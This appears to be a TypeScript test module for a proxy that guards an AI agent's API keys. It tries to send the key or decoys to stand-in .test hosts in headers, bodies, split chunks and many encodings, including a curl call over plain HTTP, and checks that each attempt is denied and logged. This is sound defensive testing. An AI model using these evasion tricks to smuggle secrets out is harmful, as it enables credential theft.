// ATTACKS B1–B3, B6–B8: the key or its decoy at a host, in a form or over a connection where it does not belong.
import { randomBytes } from 'node:crypto';
import { type Attack, type Variant, variant } from './attack.js';
import { keyOf } from './names.js';
import type { Place } from './place.js';
import type { World } from './world.js';

interface Sending {
  name: string;
  host: string;
  /** Whole, or in pieces. */
  send: string | string[];
  pauseMs?: number;
}

/** Sends each on a connection of its own; gives the answers' first lines. */
export async function sendAll(place: Place, sendings: readonly Sending[]): Promise<string[]> {
  const list = sendings.map((one) => ({ ...one, ...place.upstream(one.host) }));
  return place.run(
    (tools, all) =>
      Promise.all(
        all.map(async ({ host, port, address, send, pauseMs }) => {
          const at = address === undefined ? {} : { address };
          const pace = pauseMs === undefined ? {} : { pauseMs };
          return tools.tls({ host, port, ...at, ...pace, send, timeoutMs: 5000 });
        }),
      ),
    list,
  );
}

/** What of the marked sendings an upstream saw. */
export async function arrivedOf(
  place: Place,
  world: World,
  sendings: readonly Sending[],
  mark: string,
): Promise<Variant[]> {
  const answers = await sendAll(place, sendings);
  return sendings.map(({ name }, index) => {
    const isThere = world.seen(`${mark}-${index}-`).length > 0;
    const [line = ''] = (answers[index] ?? '').split('\r\n');
    return variant(name, isThere && `${name}: it arrived (${line})`, line || 'no answer');
  });
}

/** A blocked attack proves something only where the harmless request of the same make arrives. Throws where it does not. */
export async function assertWayIsOpen(place: Place, host: string, target: string): Promise<void> {
  const [answer = ''] = await sendAll(place, [
    { name: 'harmless', host, send: request(host, 'GET', target, []) },
  ]);
  if (!answer.startsWith('HTTP/1.1 200'))
    throw new Error(`a harmless request is not answered: ${answer.slice(0, 60)}`);
}

const request = (host: string, method: string, target: string, fields: readonly string[], body = '') => {
  const length = body === '' ? [] : [`Content-Length: ${Buffer.byteLength(body, 'latin1')}`];
  return [`${method} ${target} HTTP/1.1`, `Host: ${host}`, ...fields, ...length, '', body].join('\r\n');
};

const other = 'other.desk.test';

const b1: Attack = {
  id: 'B1',
  title: 'the key sent to the wrong host: header, query, path, body; denied, journaled, tainted',
  // Counts its denials in the journal.
  isApart: true,
  control: 'plain',
  async attempt(place, world) {
    await assertWayIsOpen(place, other, '/open/harmless');
    const key = await keyOf(place);
    const mark = randomBytes(6).toString('hex');
    const at = (index: number, more = '') => `/open/${mark}-${index}-${more}`;
    const json = 'Content-Type: application/json';
    const events = (await world.box.journal()).length;
    const variants = await arrivedOf(
      place,
      world,
      [
        {
          name: 'authorization',
          host: other,
          send: request(other, 'GET', at(0), [`Authorization: Bearer ${key}`]),
        },
        { name: 'another header', host: other, send: request(other, 'GET', at(1), [`X-Note: ${key}`]) },
        { name: 'a header’s name', host: other, send: request(other, 'GET', at(2), [`X-${key}: 1`]) },
        { name: 'query', host: other, send: request(other, 'GET', at(3, `?k=${key}`), []) },
        { name: 'path', host: other, send: request(other, 'GET', at(4, key), []) },
        { name: 'cookie', host: other, send: request(other, 'GET', at(5), [`Cookie: s=${key}`]) },
        {
          name: 'JSON body',
          host: other,
          send: request(other, 'POST', at(6), [json], JSON.stringify({ key })),
        },
        { name: 'text body', host: other, send: request(other, 'POST', at(7), [], `a${key}b`) },
      ],
      mark,
    );
    if (place.kind !== 'box') return variants;
    const recorded = await world.journalSince(events);
    const denials = recorded.filter(({ code }) => code === 'DECOY_MISPLACED').length;
    const taints = recorded.filter(({ type }) => type === 'taint').length;
    return [
      ...variants,
      variant(
        'journal',
        denials < variants.length && `only ${denials} denials recorded`,
        `${denials} denials`,
      ),
      variant('taint', taints === 0 && 'the box is not tainted', `${taints} taints`),
    ];
  },
};

const b2: Attack = {
  id: 'B2',
  title: 'the key split over writes, TLS records and chunks',
  control: 'plain',
  async attempt(place, world) {
    await assertWayIsOpen(place, other, '/open/harmless');
    const key = await keyOf(place);
    const mark = randomBytes(6).toString('hex');
    const bytewise = (text: string) => [...text];
    const at = (index: number) => `/open/${mark}-${index}-`;
    const body = JSON.stringify({ key });
    const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;
    const chunked = (index: number) => request(other, 'POST', at(index), ['Transfer-Encoding: chunked']);
    const half = key.length >> 1;
    return arrivedOf(
      place,
      world,
      [
        {
          name: 'the head in pieces of one byte',
          host: other,
          send: bytewise(request(other, 'GET', at(0), [`X-N: ${key}`])),
        },
        {
          name: 'the body in pieces of one byte',
          host: other,
          send: [request(other, 'POST', at(1), [`Content-Length: ${body.length}`]), ...bytewise(body)],
          pauseMs: 2,
        },
        {
          name: 'two chunks',
          host: other,
          send: `${chunked(2)}${chunk(key.slice(0, half))}${chunk(key.slice(half))}0\r\n\r\n`,
        },
        {
          name: 'chunks of one byte',
          host: other,
          send: [chunked(3), ...bytewise(key).map(chunk), '0\r\n\r\n'],
          pauseMs: 2,
        },
        {
          name: 'behind 200 KB of filling',
          host: other,
          send: request(other, 'POST', at(4), [], `${'x'.repeat(200_000)}${key}${'y'.repeat(1000)}`),
        },
        { name: 'in a trailer', host: other, send: `${chunked(5)}${chunk('x')}0\r\nX-Note: ${key}\r\n\r\n` },
        { name: 'in a chunk extension', host: other, send: `${chunked(6)}1;n=${key}\r\nx\r\n0\r\n\r\n` },
      ],
      mark,
    ).then((variants) => keyArrived(variants, world, key, mark));
  },
};

/** A request that began to arrive before its key was met gained nothing unless the key came, too. */
function keyArrived(variants: readonly Variant[], world: World, key: string, mark: string): Variant[] {
  return variants.map((one, index) => {
    const texts = world.seen(`${mark}-${index}-`);
    const isKeyThere = texts.some((text) => text.includes(key));
    return isKeyThere
      ? one
      : { name: one.name, detail: texts.length > 0 ? 'arrived without the key' : one.detail };
  });
}

const b3: Attack = {
  id: 'B3',
  title:
    'the key percent-encoded, JSON-escaped, in hexadecimal, base64, URL-safe base64, Basic; mixed, wrapped, nested',
  control: 'plain',
  async attempt(place, world) {
    await assertWayIsOpen(place, other, '/open/harmless');
    const key = await keyOf(place);
    const mark = randomBytes(6).toString('hex');
    const bytes = Buffer.from(key);
    const percent = [...bytes].map((byte) => `%${byte.toString(16)}`).join('');
    const json = [...key].map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
    const mixed = (spell: (code: number) => string) =>
      [...key].map((char, index) => (index % 2 === 0 ? char : spell(char.charCodeAt(0)))).join('');
    const file = Buffer.from(`# the settings of this desk, all of them\nKEY=${key}\n`);
    const inLines = file.toString('base64').match(/.{1,76}/g) ?? [];
    const forms = {
      percent,
      'percent, upper case': percent.toUpperCase().replace(/%/g, '%'),
      'percent twice': percent.replaceAll('%', '%25'),
      'JSON escapes': json,
      hex: bytes.toString('hex'),
      'hex, upper case': bytes.toString('hex').toUpperCase(),
      base64: bytes.toString('base64'),
      'base64 after one byte': Buffer.from(`a${key}`).toString('base64'),
      'base64 after two bytes': Buffer.from(`ab${key}`).toString('base64'),
      base64url: Buffer.from(`?>${key}`).toString('base64url'),
      Basic: `Basic ${Buffer.from(`user:${key}`).toString('base64')}`,
      'percent, every second character': mixed((code) => `%${code.toString(16)}`),
      'JSON escapes, every second character': mixed((code) => `\\u00${code.toString(16)}`),
      'hex with blanks': [...bytes].map((byte) => byte.toString(16)).join(' '),
      'base64 in lines, as JSON has them': inLines.join('\\n'),
      'base64 in lines that a shell joined': inLines.join(' '),
      'base64 of base64': Buffer.from(bytes.toString('base64')).toString('base64'),
    };
    const inHeader = Object.entries(forms).map(([name, text], index) => ({
      name: `${name} in a header`,
      host: other,
      send: request(other, 'GET', `/open/${mark}-${index}-`, [`Authorization: ${text}`]),
    }));
    const inBody = Object.entries(forms).map(([name, text], index) => ({
      name: `${name} in a body`,
      host: other,
      send: request(other, 'POST', `/open/${mark}-${index + inHeader.length}-`, [], `{"note":"${text}"}`),
    }));
    return arrivedOf(place, world, [...inHeader, ...inBody], mark);
  },
};

const b6: Attack = {
  id: 'B6',
  title: 'plain HTTP; an upstream whose certificate does not verify, whatever the client set',
  control: 'plain',
  async attempt(place, world) {
    const key = await keyOf(place);
    const mark = randomBytes(6).toString('hex');
    const bad = 'bad.desk.test';
    const authorization = [`Authorization: Bearer ${key}`];
    const variants = await arrivedOf(
      place,
      world,
      [
        {
          name: 'an unverified certificate, verification off in the client',
          host: bad,
          send: request(bad, 'GET', `/${mark}-0-`, authorization),
        },
      ],
      mark,
    );
    const to =
      place.kind === 'box'
        ? 'http://mirror.desk.test'
        : `http://${place.hostAddress}:${world.upstreams.tcpPort}`;
    const curl = await place.sh(
      `curl -sS -m 3 -o /dev/null -w '%{http_code}' --noproxy '*' ${to}/${mark}-1- -H "authorization: Bearer $API_KEY"; curl -sS -m 3 -o /dev/null -w '%{http_code}' ${to}/${mark}-2- -H "authorization: Bearer $API_KEY"`,
    );
    const heard =
      world.upstreams.heard().includes(mark) ||
      world.seen(`${mark}-1-`).length + world.seen(`${mark}-2-`).length > 0;
    return [
      ...variants,
      variant('clear text', heard && 'the key crossed the network in clear text', curl.stdout),
    ];
  },
};

const b7: Attack = {
  id: 'B7',
  title: 'an unknown, a foreign, a revoked or a mixed placeholder: never sent as it is',
  control: 'plain',
  async attempt(place, world) {
    const mark = randomBytes(6).toString('hex');
    const host = 'mirror.desk.test';
    const own = await keyOf(place);
    const unknown = `decoy-${randomBytes(20).toString('hex')}`;
    const model = await keyOf(place, 'MODEL_KEY');
    const bearers = {
      unknown,
      'the model’s': model,
      'own with a letter more': `${own}x`,
      'own without its last letter': own.slice(0, -1),
      'own twice': `${own},${own}`,
      'none at all': '',
    };
    const sendings = Object.entries(bearers).map(([name, value], index) => ({
      name,
      host,
      send: request(
        host,
        'GET',
        `/${mark}-${index}-`,
        value === '' ? ['Authorization: Bearer'] : [`Authorization: Bearer ${value}`],
      ),
    }));
    sendings.push({
      name: 'own in a second header',
      host,
      send: request(host, 'GET', `/${mark}-${sendings.length}-`, [
        `Authorization: Bearer ${own}`,
        `X-Copy: ${own}`,
      ]),
    });
    const arrived = await arrivedOf(place, world, sendings, mark);
    if (place.kind !== 'box') return arrived;
    await assertWayIsOpen(world.inReader, host, '/harmless');
    const late = randomBytes(6).toString('hex');
    const bearer = [`Authorization: Bearer ${world.revokedDecoy}`];
    const revoked = {
      name: 'own, from before a reset',
      host,
      send: request(host, 'GET', `/${late}-0-`, bearer),
    };
    return [...arrived, ...(await arrivedOf(world.inReader, world, [revoked], late))];
  },
};

const b8: Attack = {
  id: 'B8',
  title: 'a decoy in the chat history bricks the session, or is replaced by the real key in it',
  setting: 'a host that is no model',
  attempt: (place, world) => chatWithDecoys(place, world, 'llm.desk.test', 'MODEL_KEY'),
  control: (world) => chatWithDecoys(world.inBox, world, 'mirror.desk.test', 'API_KEY'),
};

async function chatWithDecoys(place: Place, world: World, host: string, key: string): Promise<Variant[]> {
  const [model, api, own] = await Promise.all([keyOf(place, 'MODEL_KEY'), keyOf(place), keyOf(place, key)]);
  const mark = randomBytes(6).toString('hex');
  const body = JSON.stringify({ messages: [{ role: 'tool', content: `env: ${model} ${api} ${mark}` }] });
  const [answer = ''] = await sendAll(place, [
    {
      name: 'chat',
      host,
      send: request(host, 'POST', '/v1/chat/completions', [`Authorization: Bearer ${own}`], body),
    },
  ]);
  const [line = ''] = answer.split('\r\n');
  const [seen = ''] = world.seen(mark);
  const [head = '', received = ''] = seen.split('\n\n');
  const { secrets } = world;
  return [
    variant('the session goes on', !line.includes(' 200') && `it is bricked: ${line}`, line),
    variant('the history', received !== body && 'it was changed on the way', 'arrived as it was written'),
    variant(
      'the real key in the history',
      (received.includes(secrets.model) || received.includes(secrets.api)) && 'it was put in',
      'not in it',
    ),
    variant('the header', !head.includes(secrets.model) && 'the key was not put in', 'bears the real key'),
  ];
}

export const secretAttacks: readonly Attack[] = [b1, b2, b3, b6, b7, b8];
